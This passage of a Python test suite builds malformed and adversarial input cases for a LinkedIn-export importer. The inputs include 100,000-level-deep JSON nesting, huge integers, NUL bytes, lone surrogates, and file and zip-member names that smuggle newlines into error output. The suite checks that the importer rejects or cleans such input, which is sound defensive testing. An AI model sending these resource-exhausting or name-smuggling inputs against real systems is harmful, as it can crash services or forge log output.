        Case("backslash-escapes-are-text", cat, inv_file(invitations(inv("Backslash", note="C:\\path\\n \\\" x"))),
             rows=[("invitations", {"name": "Backslash"}, {"note": "C:\\path\\n \\\" x"})], why="backslash is not an escape in CSV"),
        Case("whitespace-around-direction", cat, inv_file(invitations(inv("Spacey", direction="  incoming "))),
             rows=[("invitations", {"name": "Spacey"}, {"direction": "INCOMING"})], why="direction is trimmed and upper-cased"),
        Case("outgoing-only", cat, inv_file(invitations(inv("Out Only", direction="OUTGOING"))),
             rows=[("invitations", {"name": "Camille Laurent", "direction": "OUTGOING", "sent_at": "2025-03-10T03:43:00+00:00"}, {})],
             why="outgoing invitations are stored (never judged)"),
        Case("duplicate-rows", cat, inv_file(invitations(inv("Dup Row"), inv("Dup Row"))), new={"invitations": 1},
             why="the same invitation twice is one invitation"),
        Case("many-blank-lines-then-rows", cat, inv_file(INV_HEADER + "\n" * 1000 + inv("After Blanks") + "\n"),
             rows=[("invitations", {"name": "After Blanks"}, {"source": lambda s: s.endswith(":1001")})],
             why="blank lines are skipped"),
        Case("quote-at-eof-only", cat, inv_file(invitations(*rows) + '"'), "unbalanced", line=5),
    ]
    return cases


def _json() -> list[Case]:
    cat = "json"
    good = '{"name": "Json Good", "sent_at": "2026-09-03"}'

    def jl(*lines: str) -> str:
        return "\n".join(lines) + "\n"

    cases = [
        Case("jsonl-invalid-json", cat, single("pending.jsonl", jl(good, good, "{not json}")), "invalid JSON", line=3),
        Case("jsonl-trailing-comma", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": "2026-01-01",}')),
             "invalid JSON", line=1),
        Case("jsonl-single-quotes", cat, single("pending.jsonl", jl("{'name': 'A'}")), "invalid JSON", line=1),
        Case("jsonl-truncated-object", cat, single("pending.jsonl", jl(good, '{"name": "Half", "sent_')), "invalid JSON", line=2),
        Case("jsonl-array-line", cat, single("pending.jsonl", jl(good, "[1, 2]")), "JSON object", line=2),
        Case("jsonl-string-line", cat, single("pending.jsonl", jl('"just a string"')), "JSON object", line=1),
        Case("jsonl-number-line", cat, single("pending.jsonl", jl(good, good, "42")), "JSON object", line=3),
        Case("jsonl-null-line", cat, single("pending.jsonl", jl("null")), "JSON object", line=1),
        Case("jsonl-true-line", cat, single("pending.jsonl", jl("true")), "JSON object", line=1),
        Case("jsonl-deep-nesting", cat, single("pending.jsonl", jl(good, "[" * 100_000 + "]" * 100_000)), "nested", line=2),
        Case("jsonl-deep-nesting-in-value", cat,
             single("pending.jsonl", jl('{"name": "Deep", "sent_at": "2026-01-01", "x": ' + "[" * 50_000 + "]" * 50_000 + "}")),
             "nested", line=1),
        Case("jsonl-huge-integer", cat, single("pending.jsonl", jl('{"name": "Big", "sent_at": "2026-01-01", "n": ' + "9" * 5000 + "}")),
             "number", line=1),
        Case("jsonl-name-is-number", cat, single("pending.jsonl", jl('{"name": 12, "sent_at": "2026-01-01"}')),
             "'name' must be a string, not int", line=1),
        Case("jsonl-sent-at-is-number", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": 45123}')),
             "'sent_at' must be a string, not int", line=1),
        Case("jsonl-note-is-list", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": "2026-01-01", "note": ["a"]}')),
             "'note' must be a string, not list", line=1),
        Case("jsonl-headline-is-object", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": "2026-01-01", "headline": {}}')),
             "'headline' must be a string, not dict", line=1),
        Case("jsonl-url-is-bool", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": "2026-01-01", "profile_url": true}')),
             "'profile_url' must be a string, not bool", line=1),
        Case("jsonl-note-is-huge-float", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": "2026-01-01", "note": 1e999}')),
             "'note' must be a string, not float", line=1),
        Case("jsonl-name-is-nan", cat, single("pending.jsonl", jl('{"name": NaN, "sent_at": "2026-01-01"}')),
             "'name' must be a string", line=1),
        Case("jsonl-missing-name", cat, single("pending.jsonl", jl(good, '{"sent_at": "2026-01-01"}')), "missing value for 'name'", line=2),
        Case("jsonl-missing-sent-at", cat, single("pending.jsonl", jl('{"name": "A Json"}')),
             rows=[("invitations", {"name": "A Json"}, {"date_precision": "unknown"})], why="no date: seen pending now"),
        Case("jsonl-keys-in-other-case", cat, single("pending.jsonl", jl('{"Name": "A", "Sent_At": "2026-01-01"}')),
             "missing value for 'name'", line=1),
        Case("jsonl-nul-raw-byte", cat, single("pending.jsonl", jl(good, '{"name": "A\x00", "sent_at": "2026-01-01"}')), "NUL"),
        Case("jsonl-nul-escaped", cat, single("pending.jsonl", jl('{"name": "A", "sent_at": "2026-01-01", "note": "x\\u0000y"}')),
             "NUL", line=1),
        Case("jsonl-invalid-utf8-then-cp1252", cat,
             single("pending.jsonl", (jl(good) + '{"name": "Zoë Late", "sent_at": "2026-01-02"}\n').encode("cp1252")),
             rows=[("invitations", {"name": "Zoë Late"}, {})], why="not UTF-8: read again as cp1252"),
        Case("jsonl-lone-surrogate", cat,
             single("pending.jsonl", jl('{"name": "Lone \\ud83d Surrogate", "sent_at": "2026-01-01", "note": "half \\ude00"}')),
             rows=[("invitations", {"name": "Lone \ufffd Surrogate"}, {"note": "half \ufffd"})],
             why="a half emoji (lone surrogate escape) cannot be stored as UTF-8: it becomes U+FFFD"),
        Case("jsonl-surrogate-pair-ok", cat,
             single("pending.jsonl", jl('{"name": "Pair \\ud83d\\ude00", "sent_at": "2026-01-01"}')),
             rows=[("invitations", {"name": "Pair 😀"}, {})], why="a proper surrogate pair is one emoji"),
        Case("jsonl-duplicate-keys", cat,
             single("pending.jsonl", jl('{"name": "First", "name": "Dup Key Last", "sent_at": "2026-01-01"}')),
             rows=[("invitations", {"name": "Dup Key Last"}, {})], why="as JSON parsers do, the last duplicate key wins"),
        Case("jsonl-crlf-and-blank-lines", cat, single("pending.jsonl", "\r\n" + good + "\r\n\r\n\r\n"),
             rows=[("invitations", {"name": "Json Good"}, {"source": lambda s: s.endswith(":2")})], why="blank lines are skipped"),
        Case("jsonl-extra-keys-and-aliases", cat,
             single("pending.jsonl", jl('{"full name": "Alias Json", "date": "2026-01-01", "message": "hey", "extra": [1, {"a": null}]}')),
             rows=[("invitations", {"name": "Alias Json"}, {"note": "hey"})], why="aliases as for CSV; unknown keys kept in raw"),
        Case("jsonl-null-optional-fields", cat,
             single("pending.jsonl", jl('{"name": "Null Opt", "sent_at": "2026-01-01", "note": null, "headline": null}')),
             rows=[("invitations", {"name": "Null Opt"}, {"note": "", "headline": None})], why="null means absent"),
        Case("ndjson-extension", cat, single("pending.ndjson", jl('{"name": "Nd Json", "sent_at": "2026-01-01"}')),
             rows=[("invitations", {"name": "Nd Json"}, {})], why=".ndjson is JSON Lines"),
        Case("json-array-of-numbers", cat, single("pending.json", "[\n  1,\n  2\n]\n"), "not a JSON object", line=2),
        Case("json-array-of-arrays", cat, single("pending.json", '[{"name": "A", "sent_at": "2026-01-01"},\n ["x"]]'),
             "not a JSON object", line=2),
        Case("json-array-invalid", cat, single("pending.json", '[\n{"name": "A",\n"sent_at": }\n]'), "invalid JSON", line=3),
        Case("json-array-trailing-garbage", cat, single("pending.json", '[{"name": "A", "sent_at": "2026-01-01"}] trailing'),
             "invalid JSON", line=1),
        Case("json-array-deeply-nested", cat, single("pending.json", "[" * 100_000 + "]" * 100_000), "nested"),
        Case("json-array-huge-integer", cat, single("pending.json", "[" + "1" * 5000 + "]"), "number"),
        Case("json-array-item-missing-name", cat,
             single("pending.json", '[\n  {"name": "Arr A", "sent_at": "2026-01-01"},\n  {"sent_at": "2026-01-01"}\n]'),
             "missing value for 'name'", line=3),
        Case("json-array-empty", cat, single("pending.json", "[]"), new={"invitations": 0}, why="an empty list"),
        Case("json-array-pretty", cat,
             single("pending.json", '[\n  {\n    "name": "Pretty Arr",\n    "sent_at": "2026-01-01"\n  }\n]\n'),
             rows=[("invitations", {"name": "Pretty Arr"}, {"source": lambda s: s.endswith(":2")})],
             why="a JSON array of objects; the source names the line where the object starts"),
        Case("json-pretty-object-not-array", cat, single("pending.json", '{\n  "name": "A",\n  "sent_at": "2026-01-01"\n}\n'),
             "invalid JSON", line=1),
        Case("json-array-lone-surrogate", cat, single("pending.json", '[{"name": "Arr \\udc00", "sent_at": "2026-01-01"}]'),
             rows=[("invitations", {"name": "Arr \ufffd"}, {})], why="a lone surrogate becomes U+FFFD"),
        Case("json-array-nul-escaped", cat, single("pending.json", '[{"name": "Arr\\u0000", "sent_at": "2026-01-01"}]'),
             "NUL", line=1),
    ]
    return cases


def _folders() -> list[Case]:
    cat = "folders"
    return [
        Case("folder-empty", cat, folder({}), "no LinkedIn export files found"),
        Case("folder-no-export-files", cat, folder({"Skills.csv": "Name\nSEO\n", "notes.txt": "x"}), "no LinkedIn export files found"),
        Case("folder-only-subfolders", cat, folder({"a/b/c": Folder()}), "no LinkedIn export files found"),
        Case("folder-invitations-is-a-directory", cat, folder({"Invitations.csv": Folder()}), "no LinkedIn export files found"),
        Case("folder-name-with-trailing-space", cat, folder({"Invitations.csv ": GOOD_INVITATIONS}), "no LinkedIn export files found"),
        Case("folder-hidden-copy", cat, folder({".Invitations.csv": GOOD_INVITATIONS}), "no LinkedIn export files found"),
        Case("folder-unreadable-file", cat, folder({"Invitations.csv": Unreadable(GOOD_INVITATIONS.encode())}, "Invitations.csv"),
             "cannot read", skip_as_root=True),
        Case("folder-unreadable-subfolder", cat,
             lambda d: _unreadable_subfolder(d), "no LinkedIn export files found", skip_as_root=True),
        Case("folder-nested-deep", cat, folder({"a/b/c/d/e/Invitations.csv": GOOD_INVITATIONS}), new={"invitations": 2},
             why="export files are found at any depth"),
        Case("folder-upper-case-name", cat, folder({"INVITATIONS.CSV": GOOD_INVITATIONS}), new={"invitations": 2},
             why="names are matched without case"),
        Case("folder-two-copies", cat, folder({"Invitations.csv": GOOD_INVITATIONS, "old/Invitations.csv": GOOD_INVITATIONS}),
             new={"invitations": 2}, why="the second copy adds nothing new"),
        Case("good-export-then-bad-pending", cat, lambda d: _good_then_bad(d), "missing value for 'name'", line=2),
        Case("newline-in-file-name", cat, lambda d: _odd_name(d, "bad\nname.csv"), "missing value"),
        Case("carriage-return-in-file-name", cat, lambda d: _odd_name(d, "bad\rname.csv"), "missing value"),
        Case("non-utf8-file-name", cat, lambda d: _odd_name(d, os.fsdecode(b"bad\xffname.csv")), "missing value"),
        Case("line-separator-in-file-name", cat, lambda d: _odd_name(d, "bad\u2028name.csv"), "missing value"),
        Case("zip-member-name-with-newline", cat,
             raw_zip(lambda: zip_bytes({"evil\nname/Invitations.csv": invitations(inv(direction="NOPE"))}),
                     "evil\\u000aname/Invitations.csv"),
             "Direction", line=2),
    ]


def _unreadable_subfolder(d: Path) -> Built:
    root = d / "export"
    (root / "locked").mkdir(parents=True)
    (root / "locked" / "Invitations.csv").write_text(GOOD_INVITATIONS)
    (root / "locked").chmod(0)
    return Built([str(root)], str(root))


def _good_then_bad(d: Path) -> Built:
    d.mkdir(parents=True, exist_ok=True)
    export = d / "export"
    _write_tree(export, GOOD_EXPORT)
    bad = d / "pending.csv"
    bad.write_text("name,sent_at\n,2026-01-01\n", encoding="utf-8")
    return Built([str(export), str(bad)], str(bad))


def escape_name(path: str) -> str:
    """How an error message shows a path holding control or undecodable characters."""
    out = []
    for ch in path:
        if ch.isprintable() or ch == " ":
            out.append(ch)
        else:
            code = ord(ch)
            out.append(f"\\u{code:04x}" if code < 0x10000 else
                       f"\\u{0xD800 + ((code - 0x10000) >> 10):04x}\\u{0xDC00 + ((code - 0x10000) & 0x3FF):04x}")
    return "".join(out)


def _odd_name(d: Path, name: str) -> Built:
    d.mkdir(parents=True, exist_ok=True)
    path = d / name
    path.write_text("name,sent_at\n,2026-01-01\n", encoding="utf-8")
    return Built([str(path)], escape_name(str(path)))


def build_corpus() -> list[Case]:
    cases = (_zip_structure() + _zip_bomb() + _path_traversal() + _symlinks() + _nested() + _columns() + _encodings()
             + _garbage() + _notes() + _dates() + _csv_syntax() + _json() + _folders())
    ids = [c.id for c in cases]
    dup = {i for i in ids if ids.count(i) > 1}
    assert not dup, f"duplicate case ids: {dup}"
    return cases
